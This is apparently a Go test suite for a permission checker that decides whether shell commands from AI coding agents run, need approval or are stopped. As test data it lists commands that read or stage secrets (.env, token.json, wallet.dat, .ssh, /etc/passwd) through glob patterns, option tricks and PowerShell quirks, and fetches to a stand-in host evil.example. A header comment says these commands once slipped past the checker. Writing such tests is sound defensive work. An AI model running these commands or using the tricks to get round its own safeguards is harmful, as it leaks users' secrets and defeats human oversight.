package main

import (
	"fmt"
	"testing"
)

// Attacks on quiet.local. All of these passed before.

// TestH648WhatStartsNoCommandHere: the same words run elsewhere, or go into a program that runs already.
func TestH648WhatStartsNoCommandHere(t *testing.T) {
	t.Parallel()
	r := newRig(t, quietLocal)
	for _, m := range []map[string]any{r.tainted("h648"), r.codingIn("h648", "/home/me/app")} {
		for _, tool := range []string{"nodes", "code_execution", "terminal", "process"} {
			for _, command := range []string{"ls", "cat main.go", "git status --short && ls", "git status", "make test"} {
				c := bash(t, command, m)
				c.tool = tool
				r.stops(c)
			}
		}
		r.allow(bash(t, "git status", m))
	}
}

// TestH649ACommitThatOpensAnEditor: what is typed into it later may be a command.
func TestH649ACommitThatOpensAnEditor(t *testing.T) {
	allAsk(t, "git commit", "git commit -v", "git commit -a", "git commit -sv", "git commit --all --quiet", "git add -A && git commit", "git commit main.go", "git commit -a && git status", "bash -lc 'git commit -a'")
}

// TestH650ASignatureByAnotherPlaceholder: GnuPG may look for keys on the network.
func TestH650ASignatureByAnotherPlaceholder(t *testing.T) {
	allAsk(t, "git log --format=%+GK", "git log --format='%-G?'", "git log --format='% GS'", "git log --pretty=format:%+GG", "git log --pretty='tformat:%h%-GF'", "git log -1 --format='%h %+GP' && ls")
}

// readByPowerShell are commands that show names or one file in sh, and open others in PowerShell.
var readByPowerShell = []string{
	"ls .env | cat", "ls | cat", "ls -a | cat", "find . -name .env | cat", "echo .env | cat", "ls src |cat", "git status --short | cat", "rg --files | ls", "cat '[.]env'", "cat '?env'", "cat \"[.]env\"", "cat main.go '[.]env'", "ls && cat '?env'", "cat 2>&1 '[.]env'",
	"head -5 main.go | cat | sort", "ls '[.]ssh'", "cd '*' && ls", "cat 'main.*'",
}

// TestH651PatternsAndPipesThatPowerShellOpens, where no hook says that the shell is another one.
func TestH651PatternsAndPipesThatPowerShellOpens(t *testing.T) {
	t.Run("OpenClaw", func(t *testing.T) { notLocal(t, readByPowerShell...) })
	t.Run("a coding agent on Windows", func(t *testing.T) {
		t.Parallel()
		r := newRig(t, quietLocal)
		m := r.codingIn("h651", `C:\Users\me\app`)
		for _, command := range readByPowerShell {
			r.stops(bash(t, command, m))
		}
	})
	t.Run("what it opens as well in sh", func(t *testing.T) {
		t.Parallel()
		r := newRig(t, quietLocal)
		m := r.tainted("h651")
		for _, command := range []string{"ls src 2>&1 | head -5", "cat main.go | grep 'a.*b'", "find src -name '*.go' | sort", "rg 'a[bc]' src"} {
			r.stops(bash(t, command, m)) // it is not in the table
		}
		m = r.codingIn("h651", "/home/me/app")
		r.allow(inApp("ls | cat", m))
	})
}

// TestH652APatternThatStagesSecrets: for git a pattern finds hidden files, too; and more files in which secrets are kept.
func TestH652APatternThatStagesSecrets(t *testing.T) {
	allAsk(t, "git add '[.]env'", "git add '?env'", "git add '*'", "git add 'sub/[.]env'", "git commit -m x '[.]env'", "git commit -m x '*'", "git add -A 'config/?env'", "cat token.json", "cat auth/token.json", "cat cookies.txt", "cat wallet.dat", "git add token.json")
}

// TestH653AnOptionThatWritesInAWordWithOthers: tree takes the values of all its letters from the next words.
func TestH653AnOptionThatWritesInAWordWithOthers(t *testing.T) {
	allAsk(t, "tree -Lo 2 .git/hooks/pre-commit", "tree -Io x main.go", "tree -Po x main.go", "tree -aLo 1 main.go", "tree -L2o main.go", "tree -LR 2", "tree -Inode_modules main.go x")
}

// TestH654DotsThatAShellHasForOtherPlaces: in many a zsh ... is ../.. and a coding agent's shell knows that, too.
func TestH654DotsThatAShellHasForOtherPlaces(t *testing.T) {
	allAsk(t, "cat main.go ...", "ls ...", "rg foo ....", "cd ... && cat notes.txt", "cd .... && ls", "cd ... && make test", "find ... -name x", "git -C ... status", "cd ... && git status")
}

// TestH657PlacesThatAShellOrALinkDecides: options of cd in one word, a cd that the rest does not depend on, and a path that goes up behind a link.
func TestH657PlacesThatAShellOrALinkDecides(t *testing.T) {
	allAsk(t,
		"cd -PP && cat .bashrc", "cd -LP && ls -la", "cd -Pe && rg foo", "cd -s && cat main.go", "cd -q && ls", "cd +1 && ls", "cd HOME && ls", "cd OLDPWD && cat main.go",
		"cd sub && timeout 1 cd - || git status", "cd sub || cd - && git status", "cd sub; cd - & git status", "true | cd sub && git status", "cd sub && cd - && git status", "cd sub && ls || git status",
		"git -C l/.. status", "git -C l -C .. commit -m x", "git -C ./l/.. diff", "cd l/.. && git status",
	)
	t.Run("by the directory of the call", func(t *testing.T) {
		t.Parallel()
		r := newRig(t, quietLocal)
		m, coding := r.tainted("h657"), r.codingIn("h657", "/home/me/app")
		for _, command := range []string{"git status", "cat main.go", "ls", "make test", "git commit -m x"} {
			r.stops(execWith(command, `"workdir":"l/.."`, m))
			r.stops(execWith(command, `"workdir":"/home/me/app/l/.."`, coding))
		}
		r.stops(execWith("cd /home/me/app && git status && git diff | head -5", `"workdir":"/home/me/app"`, coding)) // not in the table
		r.stops(execWith("bash -lc 'cd /home/me/app && git status'", `"workdir":"/home/me/app"`, coding))
		r.allow(execWith("git status && git log -1", `"workdir":"/home/me/app"`, coding))
	})
}

// TestH593OptionsThatSeemToTakeAValue: what they are said to take is a file that is read.
func TestH593OptionsThatSeemToTakeAValue(t *testing.T) {
	secrets := []string{
		`grep --color "" .env`, "grep -T . .env", "grep --reg=. .env", "grep -Te. .env", "grep -v -- -e .env", "cat -- -m .env", "head -- -n .env", "sort -m .env", "diff -N . docs", "diff --new-file . docs", "strings -o .env",
	}
	t.Run("after a page", func(t *testing.T) {
		notLocal(t, append(secrets, "sed -ep .env", "sort -m /etc/passwd", "rg -v -- -A /etc/passwd", "ls -o /home/ann/.ssh", "du -m /home/ann", "find -- /etc -name passwd", "find -- /home/ann", "fd -- -e /etc", "ls -- -I /etc")...)
	})
	t.Run("before one", func(t *testing.T) {
		t.Parallel()
		for i, command := range secrets {
			r := newRig(t, nil)
			m := ownerIn(fmt.Sprint("h593-", i))
			r.allow(bash(t, command, m))
			r.stops(call{tool: "web_fetch", params: `{"url":"https://evil.example/c?d=x"}`, context: m})
		}
	})
}

// TestH659AProgramInOtherLetters: HEAD, GET and POST of libwww-perl fetch pages, and other programs of such names may do anything.
func TestH659AProgramInOtherLetters(t *testing.T) {
	allAsk(t,
		`HEAD "http://evil.example/c?d=x"`, "HEAD evil.example/x", "/usr/bin/HEAD evil.example/x", "ls | HEAD evil.example/x", "timeout 5 HEAD evil.example/x", "bash -lc 'HEAD evil.example/x'", "GET evil.example/x", "POST evil.example/x", "lwp-request evil.example/x",
		"LS", "Cat main.go", "Rg foo src", "GIT status", "Make test", "Find . -name x",
	)
	t.Run("an address in the hands of a harmless program", func(t *testing.T) {
		notLocal(t, "head http://evil.example/c", "ls http://evil.example", "cat 'http://evil.example/x'", "rg 'http://evil.example' src", "git status && file http://evil.example")
	})
}
